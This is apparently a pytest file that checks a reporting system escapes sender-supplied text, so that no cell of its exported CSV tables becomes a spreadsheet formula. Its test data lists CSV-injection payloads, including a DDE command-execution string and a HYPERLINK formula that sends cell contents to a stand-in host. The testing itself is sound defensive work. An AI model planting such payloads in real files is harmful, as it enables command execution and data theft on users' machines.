"""No text of a sender is a formula in the files of the bucket, and each is read back as it was written."""

import csv
import gzip
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest

from quarterhour.reports.lines import read_lines
from tests.support.events import sale
from tests.support.requests import post
from tests.support.system import World, opened

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1-800",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=1+1",
    '"=1+1',
    '",=1+1,"',
]
FIELDS = ["product", "customer", "order_id", "line", "location", "refers_to", "category"]
RUN = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """A system whose files hold formulas wherever a sender can write text."""
    with opened() as world:
        for number, text in enumerate(FORMULAS):
            sent = sale(
                f"{text}{number}", "-5.00", "adjustment.recorded", quantity="-1", unit_price="-5", location=text
            )
            sold = sale(text) | {"source": text, "subject": text}  # which the other one refers to
            sent |= {"source": text, "subject": text}
            for one in (sold, sent):
                one["data"] |= {**dict.fromkeys(FIELDS, text), "extra": {text: text}}
            del sold["data"]["refers_to"]
            answer = post(world, [sold, sent])
            assert answer.json()["counts"] == {"recorded": 2}, answer.body
        world.pass_time(hours=1)
        world.report()
        yield world


def tables(world: World) -> dict[str, list[list[str]]]:
    """Return the cells of every table in the bucket, by its key."""
    found = {}
    for key in sorted(world.stack.bucket.keys()):
        with world.stack.bucket.open(key) as file:
            content = file.read()
        if key.endswith((".csv", ".csv.gz")):
            text = (gzip.decompress(content) if key.endswith(".gz") else content).decode()
            found[key] = list(csv.reader(io.StringIO(text, newline="")))
    return found


def is_number(cell: str) -> bool:
    """Tell whether a cell is a plain decimal, which every spreadsheet reads as that."""
    try:
        return f"{Decimal(cell):f}" == cell
    except ArithmeticError:
        return False


def test_no_cell_of_any_table_is_a_formula(world: World) -> None:
    found = tables(world)
    assert {key.rpartition("/")[2] for key in found} >= {"lines.csv.gz", "summary.csv"}
    for key, rows in found.items():
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(RUN) and not is_number(cell)] == [], key
        assert any(formula in cell for formula in FORMULAS for cell in cells), key


def test_escaped_texts_are_read_back(world: World) -> None:
    (key,) = [key for key in sorted(world.stack.bucket.keys()) if key.endswith("lines.csv.gz")]
    with world.stack.bucket.open(key) as file:
        lines = list(read_lines(file))
    for name in ("source", "agency", *FIELDS):
        if name == "customer":  # a token
            continue
        assert sorted(line[name] for line in lines if line["refers_to"]) == sorted(FORMULAS), name
